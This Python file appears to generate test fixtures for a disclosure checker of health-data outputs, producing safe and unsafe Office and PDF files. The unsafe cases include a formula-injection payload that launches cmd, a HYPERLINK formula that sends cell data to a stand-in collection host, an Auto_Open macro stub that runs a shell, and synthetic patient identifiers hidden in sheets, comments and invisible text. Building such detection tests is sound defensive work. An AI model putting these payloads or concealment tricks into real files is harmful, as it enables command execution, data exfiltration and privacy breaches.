"""Excel, Word, PowerPoint and PDF with hidden or embedded things (or without)."""

import io
import zipfile

import docx
import pikepdf
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Inches
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import ColorScaleRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.pdfgen import canvas
from reportlab.platypus import Paragraph, SimpleDocTemplate, Spacer, Table

from tests.airlock.outputs.case import Shelf

from .m02_screens import bars, grid
from .tools import ipp, nir, person


def book(title, rows):
    wb = Workbook()
    wb.properties.creator = ""
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    for c in ws[1]:
        c.font = Font(bold=True)
    return wb, ws


def word(title, paragraphs, rows=None):
    d = docx.Document()
    d.core_properties.author = ""
    d.core_properties.last_modified_by = ""
    d.core_properties.comments = ""
    d.add_heading(title, 1)
    for p in paragraphs:
        d.add_paragraph(p)
    if rows:
        t = d.add_table(0, len(rows[0]))
        t.style = "Table Grid"
        for row in rows:
            for c, v in zip(t.add_row().cells, row, strict=True):
                c.text = str(v)
    return d


def page(lines, title="", size=11):
    b = io.BytesIO()
    c = canvas.Canvas(b, pagesize=A4, invariant=1)
    c.setTitle(title)
    c.setAuthor("")
    c.setFont("Helvetica", size)
    for i, x in enumerate(lines):
        c.drawString(60, 780 - 20 * i, x)
    c.save()
    return io.BytesIO(b.getvalue())


POLES = [
    ("Pôle", "Séjours 2022", "Séjours 2023", "DMS", "Lits"),
    ("Médecine", 12410, 12988, 6.1, 210),
    ("Chirurgie", 9822, 10207, 4.4, 164),
    ("Mère-enfant", 7015, 6894, 3.6, 98),
    ("Cancérologie", 5630, 6011, 5.2, 72),
    ("Psychiatrie", 2204, 2311, 21.7, 85),
    ("Réanimation", 2019, 2106, 7.9, 34),
]
STROKE = [
    ("Variable", "Thrombectomy (n=1,204)", "Medical (n=1,311)", "p"),
    ("Age, median [IQR]", "72 [61-81]", "74 [63-83]", "0.02"),
    ("Female", "571 (47.4%)", "640 (48.8%)", "0.48"),
    ("Atrial fibrillation", "402 (33.4%)", "388 (29.6%)", "0.04"),
    ("NIHSS, median [IQR]", "16 [12-20]", "9 [6-14]", "<0.001"),
    ("mRS 0-2 at 3 months", "554 (46.0%)", "641 (48.9%)", "0.15"),
    ("Death at 3 months", "218 (18.1%)", "201 (15.3%)", "0.06"),
]


def write(shelf: Shelf) -> None:
    r = shelf.random("office")
    # --- safe
    wb, ws = book("Activité", POLES)
    ws.freeze_panes = "B2"
    ws.auto_filter.ref = "A1:E7"
    ws.conditional_formatting.add(
        "D2:D7", ColorScaleRule(start_type="min", start_color="FFFFFF", end_type="max", end_color="FF6666")
    )
    ws.print_title_rows = "1:1"
    wb.save(
        shelf.safe(
            "office/activite_poles.xlsx",
            "filters, frozen panes and colour scales",
            "Activité par pôle 2022-2023.",
            "39 100 séjours en 2022 et 40 517 en 2023",
        )
    )
    wb, ws = book(
        "Budget",
        [
            ("Poste", "2022 (k€)", "2023 (k€)", "Écart"),
            *[
                (p, a, b, f"=C{i}-B{i}")
                for i, (p, a, b) in enumerate(
                    (
                        ("Personnel", 81200, 84900),
                        ("Médicaments", 32110, 35420),
                        ("Dispositifs", 14080, 14770),
                        ("Hôtellerie", 9021, 9940),
                    ),
                    2,
                )
            ],
            ("Total", "=SUM(B2:B5)", "=SUM(C2:C5)", "=C6-B6"),
        ],
    )
    for row in ws["B2:D6"]:
        for c in row:
            c.number_format = "#,##0;[Red]-#,##0"
    wb.save(
        shelf.safe(
            "office/budget_ecarts.xlsx",
            "ordinary formulas of sums and differences, in euros",
            "Écarts budgétaires par grand poste de dépense.",
            "Établissement entier, 61 000 séjours",
        )
    )
    wb, ws = book(
        "Rates",
        [
            ("Year", "Central lines", "Infections", "per 1000 days"),
            (2019, 2210, 58, 2.9),
            (2020, 2477, 74, 3.3),
            (2021, 2390, 61, 2.8),
            (2022, 2288, 47, 2.2),
        ],
    )
    ch = BarChart()
    ch.title = "CLABSI per 1000 catheter-days"
    ch.add_data(Reference(ws, min_col=4, min_row=1, max_row=5), titles_from_data=True)
    ch.set_categories(Reference(ws, min_col=1, min_row=2, max_row=5))
    ws.add_chart(ch, "G2")
    wb.save(
        shelf.safe(
            "office/clabsi_chart.xlsx",
            "a native chart and rates below ten",
            "Catheter infections per year with a chart.",
            "9,365 central lines, 240 infections, 2019-2022",
        )
    )
    wb, ws = book(
        "Définitions",
        [
            ("Indicateur", "Valeur"),
            ("Réhospitalisation à 30 jours", "13,4 %"),
            ("Courrier à J0", "71,2 %"),
            ("DMS (jours)", "5,8"),
        ],
    )
    ws["A2"].comment = Comment(
        "Toute hospitalisation non programmée dans les 30 jours, hors séances (n = 8 212 séjours éligibles).", "note"
    )
    ws["A4"].comment = Comment("Durée moyenne, séjours de 0 nuit exclus.", "note")
    wb.save(
        shelf.safe(
            "office/definitions_commentaires.xlsx",
            "cell comments that hold definitions",
            "Indicateurs avec leur définition en commentaire.",
            "8 212 séjours",
        )
    )
    wb, ws = book(
        "Dictionary",
        [
            ("name", "type", "levels", "missing_pct"),
            ("gcs_motor", "ordinal", "1-6", 4.1),
            ("asa", "ordinal", "1-5", 2.0),
            ("ecog", "ordinal", "0-4", 11.3),
            ("lactate", "numeric", "", 6.8),
            ("death_d28", "binary", "0/1", 1.2),
        ],
    )
    wb.defined_names["variables"] = DefinedName("variables", attr_text="Dictionary!$A$2:$A$6")
    dv = DataValidation(type="list", formula1='"ordinal,numeric,binary"')
    dv.add("B2:B6")
    ws.add_data_validation(dv)
    ws.column_dimensions.group("C", "D", hidden=False)
    wb.save(
        shelf.safe(
            "office/data_dictionary.xlsx",
            "names, validations and groups of columns left open",
            "Data dictionary of the released results.",
            "14,200 ICU stays",
        )
    )
    d = word(
        "Outcomes of thrombectomy",
        ["Baseline and outcomes by treatment among 2,515 strokes with large-vessel occlusion."],
        STROKE,
    )
    d.save(
        shelf.safe(
            "office/stroke_table.docx",
            "a table of counts and percentages, all large",
            "Table 1 and outcomes of the stroke cohort.",
            "2,515 strokes (1,204 and 1,311)",
        )
    )
    d = word(
        "Satisfaction des patients",
        [
            "Score e-Satis moyen par dimension, 3 412 répondants.",
            "Les cinq dimensions ont un alpha de Cronbach supérieur à 0,8.",
        ],
    )
    b = io.BytesIO()
    bars(
        [74.1, 68.9, 81.2, 62.7, 77.4], ["Accueil", "Chambre", "Soins", "Repas", "Sortie"], "Score moyen sur 100"
    ).save(b, "PNG")
    b.seek(0)
    d.add_picture(b, width=Inches(5))
    d.save(
        shelf.safe(
            "office/esatis_figure.docx",
            "an embedded picture of mean scores",
            "Scores e-Satis par dimension avec figure.",
            "3 412 répondants, 2023",
        )
    )
    d = word(
        "Méthodes statistiques",
        [
            "Modèle de Cox stratifié sur le centre (7 centres), splines à 4 nœuds, 5 imputations.",
            "Hypothèse des risques proportionnels vérifiée (p = 0,41, 6 ddl).",
        ],
        [
            ("Terme", "HR", "IC 95 %", "p"),
            ("Âge (10 ans)", "1,33", "1,24-1,43", "< 0,001"),
            ("Charlson 3-4", "1,61", "1,40-1,85", "< 0,001"),
            ("Charlson 5+", "2,12", "1,83-2,46", "< 0,001"),
            ("Fragilité (CFS 6-8)", "2,48", "2,16-2,85", "< 0,001"),
        ],
    )
    d.core_properties.keywords = "Cox; survie; fragilité"
    d.core_properties.subject = "Annexe 2"
    d.sections[0].footer.paragraphs[0].text = "Annexe statistique - version 3"
    d.save(
        shelf.safe(
            "office/annexe_methodes.docx",
            "metadata with keywords, a footer and ratios",
            "Annexe méthodologique et modèle final.",
            "5 944 patients âgés opérés, 2 010 décès",
        )
    )
    st = getSampleStyleSheet()
    SimpleDocTemplate(
        str(
            shelf.safe(
                "office/lab_turnaround.pdf",
                "hours and minutes and percentiles of a laboratory",
                "Laboratory turnaround times by test (median, P90).",
                "412,000 tests in 2023",
            )
        ),
        pagesize=A4,
        title="Laboratory turnaround",
        author="",
        invariant=1,
    ).build(
        [
            Paragraph("Laboratory turnaround times, 2023", st["Title"]),
            Spacer(1, 12),
            Table(
                [
                    ["Test", "Tests", "Median (min)", "P90 (min)", "Target met"],
                    ["Troponin", "38,210", "41", "68", "88.1 %"],
                    ["Blood gas", "51,044", "6", "14", "96.2 %"],
                    ["Potassium", "144,870", "48", "91", "84.0 %"],
                    ["CRP", "120,332", "57", "110", "79.5 %"],
                    ["D-dimer", "57,544", "62", "104", "81.7 %"],
                ]
            ),
        ]
    )
    p = pikepdf.open(
        page(
            [
                "Rapport d'activité de la pharmacie",
                "Préparations de chimiothérapie : 31 204 (2022), 33 870 (2023)",
                "Taux de refus à la libération : 0,6 %",
                "Délai médian de mise à disposition : 52 minutes",
            ],
            "Pharmacie 2023",
        )
    )
    with p.open_outline() as o:
        o.root.append(pikepdf.OutlineItem("Préparations", 0))
        o.root.append(pikepdf.OutlineItem("Délais", 0))
    p.save(
        shelf.safe(
            "office/pharmacie_signets.pdf",
            "bookmarks in a PDF",
            "Activité de préparation des chimiothérapies.",
            "65 074 préparations, 2022-2023",
        ),
        deterministic_id=True,
    )
    pr = Presentation()
    pr.core_properties.author = ""
    pr.core_properties.last_modified_by = ""
    s = pr.slides.add_slide(pr.slide_layouts[5])
    s.shapes.title.text = "Neonatal admissions by gestational age"
    cd = CategoryChartData()
    cd.categories = ["< 28 wk", "28-31", "32-36", "37+"]
    cd.add_series("Admissions", (212, 388, 1260, 1744))
    s.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(1), Inches(1.6), Inches(8), Inches(5), cd)
    pr.save(
        shelf.safe(
            "office/neonatal_chart.pptx",
            "the workbook behind a native chart holds the same large counts",
            "Slide with the admissions by gestational age.",
            "3,604 neonatal admissions",
        )
    )
    wb, ws = book(
        "Trimestres",
        [
            ("Trimestre", "Greffons prélevés", "Greffons greffés"),
            *[
                (f"T{q} {y}", a, b)
                for (y, q), a, b in zip(
                    [(y, q) for y in (2021, 2022) for q in range(1, 5)],
                    (88, 91, 74, 96, 101, 97, 83, 110),
                    (71, 75, 60, 79, 84, 80, 66, 92),
                    strict=True,
                )
            ],
        ],
    )
    wb.save(
        shelf.safe(
            "office/prelevements.xlsx",
            "quarters and counts whose differences are of 14 or more",
            "Greffons prélevés et greffés par trimestre.",
            "740 greffons prélevés, 607 greffés, 2021-2022",
        )
    )
    # --- unsafe
    wb, ws = book("Résultats", POLES)
    h = wb.create_sheet("src")
    h.append(("IPP", "entrée", "GHM"))
    for _ in range(60):
        h.append(
            (ipp(r), f"{r.randint(1, 28):02d}/{r.randint(1, 12):02d}/2023", r.choice(["05M09", "04M05", "10M02"]))
        )
    h.sheet_state = "veryHidden"
    wb.save(
        shelf.unsafe(
            "office/poles_src.xlsx",
            "hidden sheet with row-level data",
            "sheet 'src', veryHidden",
            "Activité par pôle.",
            "40 517 séjours en 2023",
        )
    )
    rows = [
        ("Cancer", "n", "Decision delay (days)"),
        ("Breast", 1411, 14),
        ("Prostate", 1022, 21),
        ("Lung", 811, 12),
        ("Thymoma", 7, 18),
        ("Colon", 944, 15),
    ]
    wb, ws = book("MDT", rows)
    ws.row_dimensions[5].hidden = True
    wb.save(
        shelf.unsafe(
            "office/mdt_hidden_row.xlsx",
            "small cell in a hidden row",
            "row 5: Thymoma 7",
            "Cases discussed in tumour boards by site.",
            "Tumour board cases, 2022, n = 4,195",
        )
    )
    wb, ws = book(
        "Centres",
        [("Classe", "Patients", "Décès"), ("I", 640, 41), ("II", 1188, 102), ("III", 877, 131), ("IV", 214, 8)],
    )
    ws["C5"].number_format = ";;;"
    wb.save(
        shelf.unsafe(
            "office/classes_masquees.xlsx",
            "small cell hidden by a number format",
            "C5, format ;;;",
            "Patients et décès par classe fonctionnelle.",
            "2 919 patients avec hypertension pulmonaire ou cardiopathie",
        )
    )
    wb, ws = book("Contact", [("Ward", "Falls", "per 1000 days"), ("A", 112, 4.1), ("B", 98, 3.8), ("C", 141, 5.2)])
    ws["B3"].comment = Comment(f"{person(r)} (room 214) counted twice, to check", "note")
    wb.save(
        shelf.unsafe(
            "office/falls_comment.xlsx",
            "name of a patient in a cell comment",
            "comment of B3",
            "Falls per ward.",
            "351 falls, 3 geriatric wards, 2022",
        )
    )
    wb, ws = book(
        "Bilan",
        [
            ("Examen", "Nombre", "Lien"),
            ("IRM", 8120, '=HYPERLINK("http://collecte.example.invalid/?v="&B2,"détail")'),
            ("Scanner", 21044, "=cmd|'/c calc'!A1"),
            ("Échographie", 17380, ""),
        ],
    )
    wb.save(
        shelf.unsafe(
            "office/imagerie_liens.xlsx",
            "formula injection",
            "C2, C3",
            "Nombre d'examens par modalité.",
            "46 544 examens, 2022",
        )
    )
    wb, ws = book("Macro", POLES)
    b = io.BytesIO()
    wb.save(b)
    b.seek(0)
    with (
        zipfile.ZipFile(b) as i,
        zipfile.ZipFile(
            shelf.unsafe(
                "office/poles_macro.xlsm",
                "macro",
                "xl/vbaProject.bin",
                "Classeur d'activité avec bouton d'actualisation.",
                "40 517 séjours",
            ),
            "w",
            zipfile.ZIP_DEFLATED,
        ) as o,
    ):
        for n in i.namelist():
            c = i.read(n)
            if n == "[Content_Types].xml":
                c = c.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if n == "xl/_rels/workbook.xml.rels":
                c = c.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
                )
            o.writestr(n, c)
        o.writestr(
            "xl/vbaProject.bin",
            bytes.fromhex("d0cf11e0a1b11ae1")
            + b"\0" * 504
            + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "cmd"\r\nEnd Sub'
            + b"\0" * 900,
        )
    d = word("Thrombectomy: outcomes", ["Summary of 2,515 strokes."], STROKE)
    run = d.add_paragraph("Figures checked by the data manager. ").add_run(f"Outlier: patient {ipp(r)}, NIHSS 38.")
    run.font.hidden = True
    d.save(
        shelf.unsafe(
            "office/stroke_vanish.docx",
            "hidden text with an identifier",
            "last paragraph, run with w:vanish",
            "Outcomes of the stroke cohort.",
            "2,515 strokes",
        )
    )
    d = word(
        "Observance du traitement", ["Taux d'observance à 12 mois : 71,4 % (IC 95 % 69,0-73,8), 1 388 patients."]
    )
    p = d.add_paragraph("Les perdus de vue ont été exclus.")
    el = OxmlElement("w:del")
    el.set(qn("w:id"), "7")
    el.set(qn("w:author"), "")
    run = OxmlElement("w:r")
    t = OxmlElement("w:delText")
    t.text = f" En particulier {nir(r)}, parti à l'étranger."
    run.append(t)
    el.append(run)
    p._p.append(el)
    d.save(
        shelf.unsafe(
            "office/observance_revision.docx",
            "identifier (NIR) in a tracked deletion",
            "w:del of the last paragraph",
            "Observance à 12 mois.",
            "1 388 patients épileptiques",
        )
    )
    im = grid(
        [
            ("Examen", "Patients"),
            ("ECG", "4 120"),
            ("Holter", "1 866"),
            ("IPP du dernier", ipp(r)),
            ("Nom", person(r)),
        ],
        (240, 240),
    )
    d = word("Examens rythmologiques", ["Nombre de patients par examen, 2022."])
    b = io.BytesIO()
    im.save(b, "PNG")
    b.seek(0)
    pic = d.add_picture(b, width=Inches(4))
    fill = pic._inline.graphic.graphicData.pic.blipFill
    src = OxmlElement("a:srcRect")
    src.set("b", "44000")
    fill.insert(1, src)
    pic.height = int(pic.height * 0.56)
    d.save(
        shelf.unsafe(
            "office/examens_rognes.docx",
            "disguise: the cropped part of the picture holds a name and an IPP",
            "word/media picture below the crop",
            "Patients par examen rythmologique.",
            "5 986 patients",
        )
    )
    wb, _ = book(
        "d",
        [
            ("id", "sexe", "age", "tdr"),
            *[(ipp(r), r.choice("MF"), r.randint(18, 85), r.randint(0, 1)) for _ in range(40)],
        ],
    )
    b = io.BytesIO()
    wb.save(b)
    d = word("Dépistage en consultation de voyage", ["Positivité : 12,8 % de 2 204 tests."])
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.opc.packuri import PackURI
    from docx.opc.part import Part

    d.part.relate_to(
        Part(
            PackURI("/word/embeddings/Feuille1.xlsx"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            b.getvalue(),
            d.part.package,
        ),
        RT.PACKAGE,
    )
    d.save(
        shelf.unsafe(
            "office/depistage_embed.docx",
            "embedded workbook with row-level data",
            "word/embeddings/Feuille1.xlsx",
            "Taux de positivité des tests.",
            "2 204 tests, 2 204 patients",
        )
    )
    p = pikepdf.open(
        page(
            ["Quality of recovery after day surgery", "QoR-15 at 24 h: median 128 (IQR 117-137), n = 1,720"], "QoR-15"
        )
    )
    p.attachments["raw.csv"] = pikepdf.AttachedFileSpec(
        p,
        ("id,age,qor\n" + "".join(f"{i},{r.randint(18, 89)},{r.randint(60, 150)}\n" for i in range(200))).encode(),
        filename="raw.csv",
    )
    p.save(
        shelf.unsafe(
            "office/qor_attached.pdf",
            "attached file with row-level data",
            "embedded file raw.csv",
            "Quality of recovery at 24 hours.",
            "1,720 day-surgery patients",
        )
    )
    shelf.unsafe(
        "office/vaccination_fin.pdf",
        "disguise: rows after %%EOF",
        "bytes after the end",
        "Couverture vaccinale du personnel par métier.",
        "4 880 agents",
    ).write_bytes(
        page(
            [
                "Couverture vaccinale antigrippale du personnel, 2023",
                "Médecins 61 %, infirmiers 48 %, aides-soignants 39 %",
            ]
        ).getvalue()
        + ("\n" + "".join(f"{person(r)};{nir(r)};{r.choice(['oui', 'non'])}\n" for _ in range(25))).encode()
    )
    b = io.BytesIO()
    c = canvas.Canvas(b, pagesize=A4, invariant=1)
    c.setAuthor("")
    c.setFont("Helvetica", 12)
    c.drawString(60, 780, "Birth weight by parity: mean 3,310 g (SD 520), n = 6,204")
    t = c.beginText(60, 740)
    t.setTextRenderMode(3)
    for _ in range(10):
        t.textLine(f"Mme {person(r).split(' ')[-1].title()} - {nir(r)} - {r.randint(1, 28)}/{r.randint(1, 12)}/2022")
    c.drawText(t)
    c.save()
    shelf.unsafe(
        "office/birth_invisible.pdf",
        "disguise: invisible text with names",
        "page 1, text render mode 3",
        "Birth weight by parity.",
        "6,204 births",
    ).write_bytes(b.getvalue())
